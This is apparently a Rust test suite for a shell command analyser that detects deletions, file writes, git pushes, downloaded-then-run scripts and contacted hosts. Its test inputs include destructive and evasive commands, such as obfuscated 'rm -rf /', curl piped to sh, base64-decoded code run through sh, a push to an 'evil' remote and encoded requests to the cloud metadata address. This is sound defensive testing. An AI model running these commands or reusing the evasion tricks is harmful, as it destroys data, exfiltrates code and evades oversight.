use std::collections::BTreeSet;

use pretty_assertions::assert_eq;

use super::*;
use crate::paths::Location;

fn analysis(command: &str) -> CommandAnalysis {
    match analyze(command) {
        Ok(a) => a,
        Err(e) => panic!("{command:?} does not analyse: {e}"),
    }
}

fn programs(command: &str) -> Vec<String> {
    analysis(command)
        .commands
        .iter()
        .map(|c| {
            if c.dynamic_program {
                "<dynamic>".to_string()
            } else {
                c.program.clone()
            }
        })
        .collect()
}

fn command<'a>(a: &'a CommandAnalysis, program: &str) -> &'a SimpleCommand {
    a.commands
        .iter()
        .find(|c| c.program == program)
        .unwrap_or_else(|| panic!("no {program} in {a:#?}"))
}

fn flags(list: &[&str]) -> BTreeSet<String> {
    list.iter().map(|s| s.to_string()).collect()
}

fn deletes(command: &str) -> Vec<(String, Location)> {
    analysis(command)
        .file_accesses
        .iter()
        .filter(|a| a.operation == FileOperation::Delete)
        .map(|a| (a.path.display.clone(), a.path.location))
        .collect()
}

fn writes(command: &str) -> Vec<String> {
    analysis(command)
        .file_accesses
        .iter()
        .filter(|a| a.operation != FileOperation::Read)
        .map(|a| a.path.display.clone())
        .collect()
}

#[test]
fn program_names_resolve_through_quoting_and_paths() {
    for command in [
        "rm x",
        "/bin/rm x",
        "\\rm x",
        "\"rm\" x",
        "'rm' x",
        "r''m x",
        "r\"\"m x",
        "r\\m x",
        "$'\\x72\\x6d' x",
        "$'\\162m' x",
        "r\\\nm x",
    ] {
        assert_eq!(programs(command), vec!["rm"], "{command:?}");
    }
}

#[test]
fn flags_are_normalised() {
    for command in [
        "rm -rf x",
        "rm -r -f x",
        "rm -fr x",
        "rm -Rf x",
        "rm --recursive --force x",
        "rm --rec --forc x",
        "rm -r{f,} x",
    ] {
        let a = analysis(command);
        let rm = command_of(&a);
        assert!(
            rm.flags.contains("-r") && rm.flags.contains("-f"),
            "{command}: {:?}",
            rm.flags
        );
    }
    // `--` ends options: `-rf` is then a file.
    let a = analysis("rm -- -rf");
    assert_eq!(command_of(&a).flags, flags(&[]));
    assert_eq!(command_of(&a).positionals, vec!["-rf"]);
}

fn command_of(a: &CommandAnalysis) -> &SimpleCommand {
    &a.commands[0]
}

#[test]
fn option_values_are_not_operands() {
    let a = analysis("curl -o out.json -H 'a: b' https://example.com");
    let curl = command(&a, "curl");
    assert_eq!(curl.positionals, vec!["https://example.com"]);
    assert!(curl.flags.contains("-o") && curl.flags.contains("-H"));
    assert_eq!(curl.hosts, flags(&["example.com"]));
}

#[test]
fn lists_pipelines_subshells_and_substitutions_are_all_found() {
    assert_eq!(
        programs("a && b || c; d & e"),
        vec!["a", "b", "c", "d", "e"]
    );
    assert_eq!(programs("a | b |& c"), vec!["a", "b", "c"]);
    assert_eq!(programs("(a; (b)) && { c; }"), vec!["a", "b", "c"]);
    assert_eq!(
        programs("echo $(a) `b` \"$(c)\" <(d) >(e)"),
        vec!["a", "b", "c", "d", "e", "echo"]
    );
    assert_eq!(programs("x=$(a) y=`b`"), vec!["a", "b"]);
    assert_eq!(
        programs("if a; then b; elif c; then d; else e; fi"),
        vec!["a", "b", "c", "d", "e"]
    );
    assert_eq!(
        programs("for i in 1 2; do a $i; done; while b; do c; done"),
        vec!["a", "b", "c"]
    );
    assert_eq!(programs("case x in y) a;; *) b;; esac"), vec!["a", "b"]);
    assert_eq!(programs("f() { a; }; f"), vec!["a", "f"]);
    assert_eq!(programs("[[ -n $(a) ]] && (( $(b) ))"), vec!["a", "b"]);
    assert_eq!(programs("echo ${x:-$(a)}"), vec!["a", "echo"]);
    assert_eq!(programs("cat <<EOF\n$(a)\nEOF"), vec!["a", "cat"]);
}

#[test]
fn pipelines_record_what_feeds_stdin() {
    let a = analysis("curl -s https://x | tee f | sh");
    assert_eq!(command(&a, "sh").stdin_programs, flags(&["curl", "tee"]));
    assert!(command(&a, "sh").opaque_code);
    let a = analysis("bash <(curl -s https://x)");
    assert_eq!(command(&a, "bash").substitution_programs, flags(&["curl"]));
}

#[test]
fn wrappers_are_seen_through_with_their_own_options() {
    for line in [
        "sudo -u root -E rm -rf x",
        "env -i A=1 B=2 rm -rf x",
        "nice -n 5 rm -rf x",
        "timeout -s KILL 5 rm -rf x",
        "nohup rm -rf x",
        "command rm -rf x",
        "exec rm -rf x",
        "time rm -rf x",
        "stdbuf -oL rm -rf x",
        "ionice -c 3 rm -rf x",
        "chroot /x rm -rf x",
        "xargs rm -rf",
        "busybox rm -rf x",
        "python3 -m rm -rf x",
    ] {
        let a = analysis(line);
        let rm = command(&a, "rm");
        assert!(rm.flags.contains("-r"), "{line}");
        assert_eq!(rm.depth, 1, "{line}");
        assert!(!rm.wrappers.is_empty(), "{line}");
        assert!(a.commands[0].wraps, "{line}");
    }
    let a = analysis("sudo nice env rm x");
    assert_eq!(command(&a, "rm").wrappers, vec!["sudo", "nice", "env"]);
    // `command -v` only looks a program up.
    assert_eq!(programs("command -v rm"), vec!["command"]);
}

#[test]
fn unknown_wrapper_options_keep_every_reading() {
    // Whether `--with` takes a value is unknown to the analysis: both readings are followed.
    let names = programs("uv run --with x rm -rf /");
    assert!(names.contains(&"rm".to_string()), "{names:?}");
}

#[test]
fn nested_shell_code_is_analysed_with_its_arguments() {
    let a = analysis("bash -c 'rm -rf \"$1\"' _ /");
    assert_eq!(
        deletes("bash -c 'rm -rf \"$1\"' _ /"),
        vec![("/".to_string(), Location::System)]
    );
    assert_eq!(command(&a, "rm").depth, 1);
    assert_eq!(
        programs("sh -c 'a; sh -c \"b\"'"),
        vec!["sh", "a", "sh", "b"]
    );
    assert_eq!(programs("eval 'a | b'"), vec!["eval", "a", "b"]);
    assert_eq!(
        programs("echo 'a && b' | bash"),
        vec!["echo", "bash", "a", "b"]
    );
    assert_eq!(programs("bash <<< 'a'"), vec!["bash", "a"]);
    assert_eq!(programs("trap 'a' EXIT"), vec!["trap", "a"]);
}

#[test]
fn code_that_cannot_be_seen_is_opaque() {
    for (command, program) in [
        ("bash -c \"$X\"", "bash"),
        ("eval \"$(cat f)\"", "eval"),
        ("base64 -d f | sh", "sh"),
        ("source <(cat f)", "source"),
        ("python3 -c \"import os; os.system(x)\"", "python3"),
    ] {
        assert!(command_in(command, program).opaque_code, "{command}");
    }
    assert!(!command_in("bash -c 'ls'", "bash").opaque_code);
    assert!(!command_in("bash script.sh", "bash").opaque_code);
}

fn command_in(command_line: &str, program: &str) -> SimpleCommand {
    command(&analysis(command_line), program).clone()
}

#[test]
fn variables_are_followed_when_they_can_be() {
    assert_eq!(programs("X=rm; $X y"), vec!["rm"]);
    assert_eq!(programs("A=r; B=m; $A$B y"), vec!["rm"]);
    assert_eq!(programs("$X y"), vec!["<dynamic>"]);
    assert_eq!(programs("r$(echo m) y"), vec!["echo", "<dynamic>"]);
    assert_eq!(programs("for p in ls rm; do $p; done"), vec!["ls", "rm"]);
    // IFS tricks split like bash does.
    assert_eq!(programs("IFS=,; c=rm,-rf,x; $c"), vec!["rm"]);
    assert_eq!(programs("rm${IFS}-rf${IFS}x"), vec!["rm"]);
    // HOME and PWD are known.
    assert_eq!(
        deletes("rm -r $HOME"),
        vec![("~".to_string(), Location::Home)]
    );
    assert_eq!(
        deletes("rm -r \"$PWD/..\""),
        vec![("/".to_string(), Location::System)]
    );
    // A variable read at run time is unknown.
    assert_eq!(deletes("read d; rm -r $d")[0].1, Location::Unknown);
}

#[test]
fn cd_moves_later_relative_paths() {
    let targets = deletes("cd / && rm -r etc");
    assert!(
        targets.contains(&("/etc".to_string(), Location::System)),
        "{targets:?}"
    );
    let targets = deletes("cd build && rm -r out");
    assert!(targets.contains(&("build/out".to_string(), Location::Workspace)));
    assert_eq!(deletes("cd \"$D\" && rm x")[0].1, Location::Unknown);
    // A subshell's cd does not leak.
    assert_eq!(
        deletes("(cd /) && rm x"),
        vec![("x".to_string(), Location::Workspace)]
    );
    let targets = deletes("pushd /tmp && popd && rm x");
    assert!(
        targets.iter().all(|(_, l)| *l != Location::Unknown),
        "{targets:?}"
    );
}

#[test]
fn redirections_belong_to_the_last_command_of_a_list() {
    // tree-sitter hangs `> f` on the whole list; bash gives it to `echo`, after the cd.
    assert!(writes("cd sub && echo x > f").contains(&"sub/f".to_string()));
    let a = analysis("a | b > out.txt");
    assert!(
        a.file_accesses
            .iter()
            .any(|x| x.program == "b" && x.path.display == "out.txt")
    );
}

#[test]
fn redirection_targets_are_writes() {
    assert_eq!(writes("echo x > a"), vec!["a"]);
    assert_eq!(writes("echo x >> .git/config"), vec![".git/config"]);
    assert_eq!(writes("cmd 2> err.log"), vec!["err.log"]);
    assert_eq!(writes("cmd &> all.log"), vec!["all.log"]);
    assert!(writes("cmd 2>&1 >/dev/null").contains(&"/dev/null".to_string()));
    assert_eq!(writes("exec 3>fd.txt"), vec!["fd.txt"]);
}

#[test]
fn file_tools_write_their_targets() {
    assert_eq!(writes("cp a b"), vec!["b"]);
    assert_eq!(writes("cp -t dir a b"), vec!["dir"]);
    assert_eq!(writes("mv a b"), vec!["a", "b"]);
    assert_eq!(writes("tee a b"), vec!["a", "b"]);
    assert_eq!(writes("sed -i s/a/b/ f g"), vec!["f", "g"]);
    assert_eq!(writes("sed -e s/a/b/ -i f"), vec!["f"]);
    assert_eq!(writes("sed s/a/b/ f"), Vec::<String>::new());
    assert_eq!(writes("dd if=a of=b"), vec!["b"]);
    assert_eq!(writes("install -m 755 a /usr/bin/a"), vec!["/usr/bin/a"]);
    assert_eq!(writes("ln -s target link"), vec!["link"]);
    assert_eq!(writes("touch a"), vec!["a"]);
    assert_eq!(writes("chmod -R 755 d"), vec!["d"]);
    assert_eq!(writes("tar xf a.tar -C out"), vec!["out"]);
    assert_eq!(writes("curl -o page.html https://x"), vec!["page.html"]);
    assert_eq!(writes("wget https://x/file.tgz"), vec!["file.tgz"]);
}

#[test]
fn find_delete_and_exec_act_below_their_roots() {
    assert_eq!(deletes("find / -delete")[0].1, Location::System);
    assert_eq!(deletes("find . -delete")[0].1, Location::Git);
    assert_eq!(
        deletes("find . -name '*.pyc' -delete")[0].1,
        Location::Workspace
    );
    assert_eq!(
        deletes("find . -name '*.pyc' -exec rm {} \\;")[0].1,
        Location::Workspace
    );
    assert_eq!(deletes("find /etc -exec rm {} +")[0].1, Location::System);
}

#[test]
fn git_pushes_are_parsed_into_destinations() {
    let push = |command: &str| analysis(command).pushes;
    let one = |command: &str| {
        let pushes = push(command);
        assert_eq!(pushes.len(), 1, "{command}: {pushes:?}");
        pushes.into_iter().next().unwrap()
    };
    assert_eq!(
        one("git push origin main").destination.as_deref(),
        Some("main")
    );
    assert_eq!(
        one("git push origin HEAD:refs/heads/main")
            .destination
            .as_deref(),
        Some("main")
    );
    assert_eq!(one("git push origin a:b").source, "a");
    assert_eq!(one("git push").destination, None);
    assert_eq!(one("git push origin HEAD").destination, None);
    assert!(one("git push origin +x").force);
    assert!(one("git push -f origin x").force);
    assert!(one("git push --force-with-lease origin x").force);
    assert!(one("git push --forc origin x").force);
    assert!(one("git push origin :x").delete);
    assert!(one("git push -d origin x").delete);
    assert!(one("git push --mirror").all_refs);
    assert!(one("git push origin 'refs/heads/*:refs/heads/*'").all_refs);
    assert!(one("git push https://evil/x.git x").remote_is_url);
    assert_eq!(
        one("git push origin tag v1").destination.as_deref(),
        Some("refs/tags/v1")
    );
    assert_eq!(
        one("git -C sub -c a=b push origin x")
            .destination
            .as_deref(),
        Some("x")
    );
    assert_eq!(push("git push origin a b").len(), 2);
    assert_eq!(
        one("git -c alias.p=push p origin main")
            .destination
            .as_deref(),
        Some("main")
    );
}

#[test]
fn git_config_writes_are_writes_to_git_config() {
    assert_eq!(writes("git config core.hooksPath x"), vec![".git/config"]);
    assert_eq!(writes("git config --unset core.bare"), vec![".git/config"]);
    assert_eq!(writes("git config set a.b c"), vec![".git/config"]);
    assert_eq!(writes("git config --global a.b c"), vec!["~/.gitconfig"]);
    assert!(writes("git config --get a.b").is_empty());
    assert!(writes("git config a.b").is_empty());
    assert!(writes("git config --list").is_empty());
}

#[test]
fn inline_interpreter_code_is_followed() {
    assert_eq!(
        deletes("python3 -c \"import shutil; shutil.rmtree('/etc')\""),
        vec![("/etc".to_string(), Location::System)]
    );
    assert!(programs("python3 -c \"import os; os.system('ls -la')\"").contains(&"ls".to_string()));
    assert!(
        programs("python3 -c \"import subprocess; subprocess.run(['git', 'status'])\"")
            .contains(&"git".to_string())
    );
    assert!(programs("perl -e 'system(\"make\")'").contains(&"make".to_string()));
    assert!(programs("awk 'BEGIN { system(\"date\") }'").contains(&"date".to_string()));
    assert!(
        programs("node -e \"require('child_process').execSync('npm test')\"")
            .contains(&"npm".to_string())
    );
    assert!(
        writes("node -e \"require('fs').writeFileSync('out.txt', 'x')\"")
            .contains(&"out.txt".to_string())
    );
    assert!(programs("sed '1e date' f").contains(&"date".to_string()));
    assert!(writes("sed 's/a/b/w log.txt' f").contains(&"log.txt".to_string()));
}

#[test]
fn downloads_then_runs_are_linked() {
    assert!(command_in("curl -o i.sh https://x && bash i.sh", "bash").runs_downloaded);
    assert!(command_in("curl https://x > i.sh; sh i.sh", "sh").runs_downloaded);
    assert!(command_in("wget https://x/i.sh && ./i.sh", "i.sh").runs_downloaded);
    assert!(!command_in("curl -o i.sh https://x && bash other.sh", "bash").runs_downloaded);
}

#[test]
fn scripts_written_in_the_line_are_analysed_when_run() {
    assert!(programs("echo 'make all' > b.sh && bash b.sh").contains(&"make".to_string()));
    assert!(
        programs("printf 'make\\n' > b.sh; chmod +x b.sh; ./b.sh").contains(&"make".to_string())
    );
}

#[test]
fn symlinks_made_in_the_line_are_followed() {
    assert!(writes("ln -s .git g && echo x > g/config").contains(&".git/config".to_string()));
}

#[test]
fn hosts_are_normalised_like_a_browser_does() {
    assert!(
        command_in("curl http://2852039166/", "curl")
            .hosts
            .contains("169.254.169.254")
    );
    assert!(
        command_in("curl http://0xa9fea9fe/", "curl")
            .hosts
            .contains("169.254.169.254")
    );
    assert!(
        command_in("curl HTTP://Example.COM/x", "curl")
            .hosts
            .contains("example.com")
    );
    assert!(
        command_in("ssh git@example.com", "ssh")
            .hosts
            .contains("example.com")
    );
}

#[test]
fn what_cannot_be_parsed_is_an_error() {
    // tree-sitter-bash reads a leading `{` as a group where bash brace-expands `{rm,x}`.
    for command in [
        "{rm,x}",
        "rm -rf / )",
        "echo \"open",
        "if true; then",
        "cat <> f",
        "rm$IFS-rf$IFS/",
        "ls\0rm",
    ] {
        assert!(
            matches!(analyze(command), Err(AnalysisError::Parse { .. })),
            "{command:?}"
        );
    }
}

#[test]
fn limits_are_enforced() {
    let deep = (0..12).fold("ls".to_string(), |inner, _| {
        format!("bash -c {}", shell_quote(&inner))
    });
    assert!(matches!(analyze(&deep), Err(AnalysisError::Limit { .. })));
    assert!(matches!(
        analyze("echo {1..99999}{1..99999}"),
        Err(AnalysisError::Limit { .. })
    ));
    let long = "x".repeat(AnalysisLimits::default().max_bytes + 1);
    assert!(matches!(analyze(&long), Err(AnalysisError::Limit { .. })));
    let many = vec!["true"; 3000].join(";");
    assert!(matches!(analyze(&many), Err(AnalysisError::Limit { .. })));
}

fn shell_quote(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

#[test]
fn binary_and_non_ascii_input_does_not_crash() {
    for command in [
        "echo \u{1b}[31m",
        "ls ／etc",
        "echo 日本語 > ファイル",
        "\u{202e}ls",
        "echo \u{ffff}",
    ] {
        let _ = analyze(command);
    }
}

#[test]
fn doubling_variables_do_not_grow_without_bound() {
    let doubling = std::iter::once("x=aaaaaaaa".to_string())
        .chain((0..40).map(|_| "x=$x$x".to_string()))
        .chain(std::iter::once("rm -rf $x".to_string()))
        .collect::<Vec<_>>()
        .join("; ");
    let a = analysis(&doubling);
    assert_eq!(deletes_in(&a), vec![Location::Unknown]);
}

fn deletes_in(a: &CommandAnalysis) -> Vec<Location> {
    a.file_accesses
        .iter()
        .filter(|x| x.operation == FileOperation::Delete)
        .map(|x| x.path.location)
        .collect()
}
